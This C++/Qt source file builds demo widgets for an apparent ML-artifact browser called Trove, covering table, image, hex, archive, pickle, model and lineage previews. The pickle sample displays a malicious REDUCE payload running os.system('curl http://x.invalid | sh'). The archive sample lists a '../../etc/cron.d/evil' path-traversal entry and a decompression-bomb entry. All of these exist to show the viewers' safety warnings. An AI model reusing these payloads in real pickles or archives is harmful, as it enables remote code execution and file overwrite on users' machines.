#include "samples.h"

#include "lineage/lineageview.h"
#include "preview/archivetreeview.h"
#include "preview/arrayviewer.h"
#include "preview/hexview.h"
#include "preview/imageviewer.h"
#include "preview/jsontreeview.h"
#include "preview/modelsummaryview.h"
#include "preview/pickletreeview.h"
#include "preview/previewpane.h"
#include "preview/tableviewer.h"
#include "preview/textviewer.h"
#include "widgets/messagebar.h"
#include "widgets/transferroles.h"
#include "widgets/transfersdock.h"

#include <QAbstractTableModel>
#include <QJsonDocument>
#include <QJsonObject>
#include <QJsonValue>
#include <QLabel>
#include <QMainWindow>
#include <QPainter>
#include <QPlainTextEdit>
#include <QRadialGradient>
#include <QStandardItemModel>
#include <QVBoxLayout>

#include <cmath>
#include <limits>

namespace Trove::Gallery {

namespace {

/// 12,345,678 synthetic rows computed on demand: what a paging table model looks like.
class SyntheticTableModel final : public QAbstractTableModel
{
public:
    using QAbstractTableModel::QAbstractTableModel;
    int rowCount(const QModelIndex &parent = {}) const override
    {
        return parent.isValid() ? 0 : 12'345'678;
    }
    int columnCount(const QModelIndex &parent = {}) const override
    {
        return parent.isValid() ? 0 : 6;
    }
    QVariant data(const QModelIndex &index, int role) const override
    {
        if (role == Qt::TextAlignmentRole && index.column() != 1 && index.column() != 4)
            return QVariant::fromValue(Qt::AlignRight | Qt::AlignVCenter);
        if (role != Qt::DisplayRole)
            return {};
        const int r = index.row();
        switch (index.column()) {
        case 0:
            return r;
        case 1:
            return QStringLiteral("sample_%1.jpg").arg(r % 50000, 5, 10, QLatin1Char('0'));
        case 2:
            return QString::number(std::sin(r * 0.01) * 0.5 + 0.5, 'f', 4);
        case 3:
            return r % 97 == 0 ? QString() : QString::number((qint64(r) * 7919) % 10);
        case 4:
            return r % 3 == 0 ? QStringLiteral("train") : QStringLiteral("validation");
        case 5:
            return QString::number(1.5e-3 * (r % 1000), 'g', 5);
        }
        return {};
    }
    QVariant headerData(int section, Qt::Orientation o, int role) const override
    {
        if (role != Qt::DisplayRole)
            return {};
        if (o == Qt::Vertical)
            return section + 1;
        static const char *names[] = {"id", "file", "score", "label", "split", "loss"};
        return QString::fromLatin1(names[section]);
    }
};

QImage sampleImage()
{
    QImage img(640, 420, QImage::Format_ARGB32);
    img.fill(Qt::transparent);
    QPainter p(&img);
    p.setRenderHint(QPainter::Antialiasing);
    QLinearGradient sky(0, 0, 0, 300);
    sky.setColorAt(0, QColor(0x1e, 0x3c, 0x72));
    sky.setColorAt(1, QColor(0x6d, 0xd5, 0xfa));
    p.setBrush(sky);
    p.setPen(Qt::NoPen);
    p.drawRoundedRect(QRectF(20, 20, 600, 380), 40, 40);
    QRadialGradient sun(470, 120, 60);
    sun.setColorAt(0, QColor(0xff, 0xf1, 0x76));
    sun.setColorAt(1, QColor(0xff, 0xa0, 0x00, 0));
    p.setBrush(sun);
    p.drawEllipse(QPointF(470, 120), 60, 60);
    p.setBrush(QColor(0x2e, 0x7d, 0x32));
    QPolygonF hills;
    hills << QPointF(20, 400) << QPointF(20, 300) << QPointF(180, 220) << QPointF(320, 310)
          << QPointF(470, 240) << QPointF(620, 320) << QPointF(620, 400);
    p.drawPolygon(hills);
    p.setBrush(QColor(255, 255, 255, 120));
    p.drawEllipse(QPointF(200, 110), 70, 28);
    return img;
}

QString sampleJsonText()
{
    return QStringLiteral(R"({
  "experiment": "resnet50-finetune",
  "seed": 42,
  "optimizer": {"name": "AdamW", "lr": 0.0003, "betas": [0.9, 0.999], "weight_decay": 0.01},
  "schedule": {"warmup_steps": 500, "total_steps": 120000, "cosine": true},
  "augmentations": ["random_crop", "hflip", "color_jitter", null],
  "dataset": {"name": "imagenet-subset", "classes": 100, "train": 126689, "val": 5000,
              "root": "s3://datasets/imagenet-subset/v3"},
  "notes": "Baseline run.\nSecond line of notes.",
  "early_stopping": false
}
)");
}

QWidget *textSample()
{
    auto *viewer = new TextViewer;
    viewer->setFileName(QStringLiteral("train.py"));
    const QString code = QStringLiteral(
            "\"\"\"Fine-tune a ResNet on a subset of ImageNet.\n\nLogged to ClearML.\n\"\"\"\n"
            "import argparse\nfrom pathlib import Path\n\nimport torch\nfrom clearml import "
            "Task\n\n"
            "\n@torch.no_grad()\ndef evaluate(model, loader, device=\"cuda\"):\n"
            "    model.eval()\n    correct, total = 0, 0\n    for images, labels in loader:\n"
            "        logits = model(images.to(device))\n"
            "        correct += (logits.argmax(1) == labels.to(device)).sum().item()\n"
            "        total += labels.numel()\n    return correct / max(total, 1)  # accuracy\n\n\n"
            "def main():\n    parser = argparse.ArgumentParser()\n"
            "    parser.add_argument('--lr', type=float, default=3e-4)\n"
            "    parser.add_argument('--epochs', type=int, default=30)\n"
            "    args = parser.parse_args()\n"
            "    task = Task.init(project_name='vision', task_name='resnet50-finetune')\n"
            "    if args.epochs > 100 or args.lr <= 0:\n        raise ValueError('bad args')\n"
            "    print(f\"training for {args.epochs} epochs\")\n");
    const QByteArray bytes = code.toUtf8();
    viewer->setText(code, bytes.size(), 48 * 1024 * 1024);
    return viewer;
}

QWidget *hexSample()
{
    auto *view = new HexView;
    QByteArray data("\x80\x04\x95\x2b\x01\x00\x00\x00\x00\x00\x00\x8c\x08\x62\x75\x69\x6c\x74\x69"
                    "\x6e\x73\x94\x8c\x04\x65\x76\x61\x6c\x94\x93\x94",
                    31);
    for (int i = 0; i < 600; ++i)
        data.append(char((i * 37 + i / 7) & 0xff));
    data.append("PK\x03\x04 this is some ASCII text inside the binary blob.", 56);
    view->setData(data, 734'003'200);
    view->setStoredPreview(
            QStringLiteral("<class 'numpy.ndarray'> shape=(1000, 512) dtype=float32\n"
                           "[[ 0.0132 -0.2201  0.9143 ...  0.1180  0.4410 -0.0912]\n"
                           " [ 0.7710  0.0021 -0.3310 ...  0.5521 -0.1290  0.0031]\n ...]"));
    return view;
}

QWidget *tableSample()
{
    auto *viewer = new TableViewer;
    viewer->setModel(new SyntheticTableModel(viewer));
    QList<ColumnStatsView> stats;
    stats << ColumnStatsView{QStringLiteral("id"),
                             QStringLiteral("int64"),
                             0,
                             QStringLiteral("0"),
                             QStringLiteral("12345677"),
                             6172838.5,
                             12345678,
                             -1};
    stats << ColumnStatsView{QStringLiteral("file"),
                             QStringLiteral("string"),
                             0,
                             QStringLiteral("sample_00000.jpg"),
                             QStringLiteral("sample_49999.jpg"),
                             std::nullopt,
                             50000,
                             1000000};
    stats << ColumnStatsView{QStringLiteral("score"),
                             QStringLiteral("float64"),
                             0,
                             QStringLiteral("0.0000"),
                             QStringLiteral("1.0000"),
                             0.5012,
                             -1,
                             1000000};
    stats << ColumnStatsView{QStringLiteral("label"),
                             QStringLiteral("int64"),
                             10310,
                             QStringLiteral("0"),
                             QStringLiteral("9"),
                             4.49,
                             10,
                             1000000};
    stats << ColumnStatsView{QStringLiteral("split"),
                             QStringLiteral("category"),
                             0,
                             QStringLiteral("train"),
                             QStringLiteral("validation"),
                             std::nullopt,
                             2,
                             1000000};
    stats << ColumnStatsView{QStringLiteral("loss"),
                             QStringLiteral("float32"),
                             0,
                             QStringLiteral("0"),
                             QStringLiteral("1.4985"),
                             0.74925,
                             1000,
                             1000000};
    viewer->setColumnStats(stats);
    viewer->setStatsPanelVisible(true);
    viewer->goToRow(1'000'001);
    return viewer;
}

QWidget *arraySample()
{
    const qint64 d0 = 3, rows = 48, cols = 64;
    QVector<double> values;
    values.reserve(d0 * rows * cols);
    for (qint64 k = 0; k < d0; ++k)
        for (qint64 r = 0; r < rows; ++r)
            for (qint64 c = 0; c < cols; ++c) {
                const double x = (c - cols / 2.0) / 10.0, y = (r - rows / 2.0) / 10.0;
                double v = std::sin(x * (k + 1)) * std::cos(y) + 0.3 * std::exp(-(x * x + y * y));
                if ((r == 10 && c > 40 && c < 46) || (r == 30 && c == 12))
                    v = std::numeric_limits<double>::quiet_NaN();
                values.append(v);
            }
    auto *viewer = new ArrayViewer;
    viewer->setProvider(std::make_shared<MatrixArrayProvider>(QVector<qint64>{d0, rows, cols},
                                                              values, QStringLiteral("float32")));
    return viewer;
}

QWidget *arraySample(ArrayViewer::Mode mode)
{
    auto *viewer = static_cast<ArrayViewer *>(arraySample());
    viewer->setMode(mode);
    return viewer;
}

QWidget *archiveSample()
{
    auto *view = new ArchiveTreeView;
    const QDateTime t(QDate(2026, 3, 14), QTime(9, 26, 53));
    QList<ArchiveEntryView> entries{
            {QStringLiteral("dataset/"), 0, 0, t, true, ArchiveEntryView::NoFlags},
            {QStringLiteral("dataset/images/cat_001.png"), 183'442, 180'120, t, false, {}},
            {QStringLiteral("dataset/images/cat_002.png"), 201'007, 199'310, t, false, {}},
            {QStringLiteral("dataset/images/dog_001.png"), 176'800, 175'002, t, false, {}},
            {QStringLiteral("dataset/labels.csv"), 48'211, 9'822, t, false, {}},
            {QStringLiteral("dataset/README.md"), 2'048, 901, t, false, {}},
            {QStringLiteral("models/checkpoint.safetensors"), 98'566'144, 91'002'112, t, false, {}},
            {QStringLiteral("../../etc/cron.d/evil"), 120, 98, t, false,
             ArchiveEntryView::UnsafePath},
            {QStringLiteral("bomb.bin"), 4'294'967'296LL, 4'194'304, t, false,
             ArchiveEntryView::SuspiciousRatio},
            {QStringLiteral("dataset/latest"), 0, 0, t, false, ArchiveEntryView::Symlink},
    };
    view->setEntries(entries);
    return view;
}

QWidget *pickleSample()
{
    auto *view = new PickleTreeView;
    PickleNodeView root{
            QStringLiteral("<root>"), QStringLiteral("dict"), QStringLiteral("4 keys"), {}, 0, {}};
    root.children.push_back(
            {QStringLiteral("epoch"), QStringLiteral("int"), QStringLiteral("30"), {}, 0, {}});
    PickleNodeView metrics{
            QStringLiteral("metrics"), QStringLiteral("dict"), QStringLiteral("2 keys"), {}, 0, {}};
    metrics.children.push_back(
            {QStringLiteral("top1"), QStringLiteral("float"), QStringLiteral("0.8123"), {}, 0, {}});
    metrics.children.push_back({QStringLiteral("loss"),
                                QStringLiteral("list"),
                                QStringLiteral("[1.92, 1.41, 1.10, …] (30 items)"),
                                {},
                                PickleNodeView::Truncated,
                                {}});
    root.children.push_back(metrics);
    root.children.push_back({QStringLiteral("weights"),
                             QStringLiteral("numpy.ndarray"),
                             QStringLiteral("float32 (512, 100)"),
                             QStringLiteral("numpy.core.multiarray._reconstruct"),
                             PickleNodeView::NoWarning,
                             {}});
    PickleNodeView hook{QStringLiteral("callback"),
                        QStringLiteral("REDUCE"),
                        QStringLiteral("os.system('curl http://x.invalid | sh')"),
                        {},
                        PickleNodeView::Reduce,
                        {}};
    hook.children.push_back({QStringLiteral("callable"),
                             QStringLiteral("GLOBAL"),
                             QStringLiteral("os.system"),
                             QStringLiteral("os.system"),
                             PickleNodeView::DangerousImport,
                             {}});
    hook.children.push_back({QStringLiteral("args"),
                             QStringLiteral("tuple"),
                             QStringLiteral("('curl http://x.invalid | sh',)"),
                             {},
                             0,
                             {}});
    root.children.push_back(hook);
    view->setRoot(root);
    return view;
}

QWidget *modelSample()
{
    auto *view = new ModelSummaryView;
    ModelSummaryData data;
    data.format = QStringLiteral("safetensors");
    const QString f16 = QStringLiteral("F16");
    data.tensors << ModelTensorView{QStringLiteral("embed_tokens.weight"), f16, {32000, 2048}};
    for (int l = 0; l < 3; ++l) {
        const QString p = QStringLiteral("layers.%1.").arg(l);
        data.tensors
                << ModelTensorView{p + QStringLiteral("self_attn.q_proj.weight"), f16, {2048, 2048}}
                << ModelTensorView{p + QStringLiteral("self_attn.k_proj.weight"), f16, {2048, 2048}}
                << ModelTensorView{p + QStringLiteral("self_attn.v_proj.weight"), f16, {2048, 2048}}
                << ModelTensorView{p + QStringLiteral("mlp.up_proj.weight"), f16, {5632, 2048}}
                << ModelTensorView{p + QStringLiteral("input_layernorm.weight"),
                                   QStringLiteral("F32"),
                                   {2048}};
    }
    data.tensors << ModelTensorView{QStringLiteral("lm_head.weight"), f16, {32000, 2048}};
    data.metadata << qMakePair(QStringLiteral("format"), QStringLiteral("pt"))
                  << qMakePair(QStringLiteral("framework"), QStringLiteral("PyTorch 2.3"))
                  << qMakePair(QStringLiteral("clearml.task_id"),
                               QStringLiteral("3f9c2b1e8a5d4c7f9e0a1b2c3d4e5f60"));
    view->setSummary(data);
    return view;
}

QWidget *messageBarSample()
{
    auto *page = new QWidget;
    auto *layout = new QVBoxLayout(page);
    layout->setSpacing(8);
    auto *error = new MessageBar;
    error->showMessage(QStringLiteral("Could not load the artifact list: connection refused "
                                      "(http://localhost:8008/tasks.get_all)."),
                       MessageBar::Type::Error, MessageBar::Action::Retry);
    auto *warning = new MessageBar;
    warning->showMessage(QStringLiteral("The cache is 92 % full. Old downloads will be evicted."),
                         MessageBar::Type::Warning);
    warning->addButton(QStringLiteral("Open Settings"), QStringLiteral("settings"));
    auto *info = new MessageBar;
    info->showMessage(QStringLiteral("Showing the first 20 MiB of a 4.2 GiB file."),
                      MessageBar::Type::Information);
    auto *ok = new MessageBar;
    ok->showMessage(QStringLiteral("Upload finished: model.onnx (48 MiB)."),
                    MessageBar::Type::Positive);
    layout->addWidget(error);
    layout->addWidget(warning);
    layout->addWidget(info);
    layout->addWidget(ok);
    layout->addStretch(1);
    return page;
}

QWidget *transfersSample()
{
    auto *window = new QMainWindow;
    auto *center = new QLabel(QStringLiteral("Main window content"));
    center->setAlignment(Qt::AlignCenter);
    center->setEnabled(false);
    window->setCentralWidget(center);
    auto *dock = new TransfersDock(window);
    auto *model = new QStandardItemModel(dock);
    struct Row
    {
        const char *name;
        TransferDirection dir;
        qint64 done, total;
        double rate;
        qint64 eta;
        TransferState state;
        const char *error;
    };
    const Row rows[] = {
            {"checkpoint_epoch30.safetensors", TransferDirection::Download, 412'000'000,
             1'073'741'824, 23.4e6, 28, TransferState::Running, ""},
            {"predictions.csv.gz", TransferDirection::Upload, 7'340'032, 20'971'520, 2.1e6, 6,
             TransferState::Running, ""},
            {"dataset-v3.zip", TransferDirection::Download, 0, 5'368'709'120LL, 0, -1,
             TransferState::Queued, ""},
            {"confusion_matrix.png", TransferDirection::Download, 183'442, 183'442, 0, -1,
             TransferState::Finished, ""},
            {"model.onnx", TransferDirection::Upload, 12'582'912, 50'331'648, 0, -1,
             TransferState::Failed, "HTTP 413: file server refused the upload (too large)"},
            {"logs.txt", TransferDirection::Download, 1'024, 65'536, 0, -1,
             TransferState::Cancelled, ""},
    };
    for (const Row &r : rows) {
        auto *item = new QStandardItem;
        item->setData(QString::fromUtf8(r.name), TransferRoles::NameRole);
        item->setData(QString::fromUtf8(r.name), Qt::DisplayRole);
        item->setData(int(r.dir), TransferRoles::DirectionRole);
        item->setData(r.done, TransferRoles::BytesDoneRole);
        item->setData(r.total, TransferRoles::BytesTotalRole);
        item->setData(r.rate, TransferRoles::RateRole);
        item->setData(r.eta, TransferRoles::EtaRole);
        item->setData(int(r.state), TransferRoles::StateRole);
        item->setData(QString::fromUtf8(r.error), TransferRoles::ErrorRole);
        item->setEditable(false);
        model->appendRow(item);
    }
    dock->setModel(model);
    window->addDockWidget(Qt::RightDockWidgetArea, dock);
    window->resizeDocks({dock}, {560}, Qt::Horizontal);
    return window;
}

QWidget *lineageSample()
{
    using N = LineageGraphData::Node;
    using E = LineageGraphData::Edge;
    LineageGraphData g;
    g.nodes << N{QStringLiteral("t-prep"),          N::Kind::Task,
                 QStringLiteral("prepare-dataset"), QStringLiteral("data / v3"),
                 QStringLiteral("completed"),       false}
            << N{QStringLiteral("m-base"),
                 N::Kind::Model,
                 QStringLiteral("resnet50-imagenet"),
                 QStringLiteral("PyTorch · public"),
                 QStringLiteral("published"),
                 true}
            << N{QStringLiteral("t-train"),           N::Kind::Task,
                 QStringLiteral("finetune-resnet50"), QStringLiteral("vision / experiments"),
                 QStringLiteral("completed"),         false}
            << N{QStringLiteral("t-train2"),
                 N::Kind::Task,
                 QStringLiteral("finetune-lr-sweep"),
                 QStringLiteral("vision / experiments"),
                 QStringLiteral("failed"),
                 false}
            << N{QStringLiteral("m-ft"),
                 N::Kind::Model,
                 QStringLiteral("resnet50-finetuned"),
                 QStringLiteral("PyTorch · 98 MB"),
                 QStringLiteral("published"),
                 false}
            << N{QStringLiteral("t-eval"),           N::Kind::Task,
                 QStringLiteral("evaluate-holdout"), QStringLiteral("vision / eval"),
                 QStringLiteral("in_progress"),      false}
            << N{QStringLiteral("t-export"),    N::Kind::Task,
                 QStringLiteral("export-onnx"), QStringLiteral("vision / deploy"),
                 QStringLiteral("queued"),      false}
            << N{QStringLiteral("m-onnx"),
                 N::Kind::Model,
                 QStringLiteral("resnet50-finetuned.onnx"),
                 QStringLiteral("ONNX · 97 MB"),
                 QStringLiteral("created"),
                 true};
    g.edges << E{QStringLiteral("t-prep"), QStringLiteral("t-train"), E::Kind::Parent}
            << E{QStringLiteral("m-base"), QStringLiteral("t-train"), E::Kind::UsedBy}
            << E{QStringLiteral("m-base"), QStringLiteral("t-train2"), E::Kind::UsedBy}
            << E{QStringLiteral("t-train"), QStringLiteral("m-ft"), E::Kind::Produced}
            << E{QStringLiteral("m-ft"), QStringLiteral("t-eval"), E::Kind::UsedBy}
            << E{QStringLiteral("m-ft"), QStringLiteral("t-export"), E::Kind::UsedBy}
            << E{QStringLiteral("t-export"), QStringLiteral("m-onnx"), E::Kind::Produced}
            << E{QStringLiteral("t-prep"), QStringLiteral("t-eval"), E::Kind::Parent};
    auto *view = new LineageView;
    view->setGraph(g);
    view->selectNode(QStringLiteral("m-ft"));
    return view;
}

QWidget *previewSample()
{
    auto *pane = new PreviewPane;
    pane->showLoading(QStringLiteral("Downloading checkpoint_epoch30.safetensors…"));
    pane->setProgress(412'000'000, 1'073'741'824);
    return pane;
}

QWidget *errorSample()
{
    auto *pane = new PreviewPane;
    pane->showError(QStringLiteral("This file is not a valid NumPy array."),
                    QStringLiteral("weights.npy: header declares shape (1000, 512) but the file "
                                   "holds 1,024 bytes of data."));
    return pane;
}

} // namespace

QStringList sampleNames()
{
    return {QStringLiteral("image"),      QStringLiteral("text"),      QStringLiteral("json"),
            QStringLiteral("hex"),        QStringLiteral("table"),     QStringLiteral("array"),
            QStringLiteral("archive"),    QStringLiteral("pickle"),    QStringLiteral("model"),
            QStringLiteral("messagebar"), QStringLiteral("transfers"), QStringLiteral("lineage"),
            QStringLiteral("preview"),    QStringLiteral("error")};
}

QWidget *createSample(const QString &name, QWidget *parent)
{
    QWidget *w = nullptr;
    if (name == QLatin1String("image")) {
        auto *viewer = new ImageViewer;
        viewer->setImage(sampleImage(), QStringLiteral("PNG"));
        w = viewer;
    } else if (name == QLatin1String("text")) {
        w = textSample();
    } else if (name == QLatin1String("json")) {
        auto *view = new JsonTreeView;
        view->setRoot(JsonTreeNode::fromJson(
                QJsonDocument::fromJson(sampleJsonText().toUtf8()).object()));
        w = view;
    } else if (name == QLatin1String("hex")) {
        w = hexSample();
    } else if (name == QLatin1String("table")) {
        w = tableSample();
    } else if (name == QLatin1String("array")) {
        w = arraySample();
    } else if (name == QLatin1String("grid")) {
        w = arraySample(ArrayViewer::Mode::Grid);
    } else if (name == QLatin1String("histogram")) {
        w = arraySample(ArrayViewer::Mode::Histogram);
    } else if (name == QLatin1String("archive")) {
        w = archiveSample();
    } else if (name == QLatin1String("pickle")) {
        w = pickleSample();
    } else if (name == QLatin1String("model")) {
        w = modelSample();
    } else if (name == QLatin1String("messagebar")) {
        w = messageBarSample();
    } else if (name == QLatin1String("transfers")) {
        w = transfersSample();
    } else if (name == QLatin1String("lineage")) {
        w = lineageSample();
    } else if (name == QLatin1String("preview")) {
        w = previewSample();
    } else if (name == QLatin1String("error")) {
        w = errorSample();
    }
    if (w && parent)
        w->setParent(parent);
    return w;
}

} // namespace Trove::Gallery
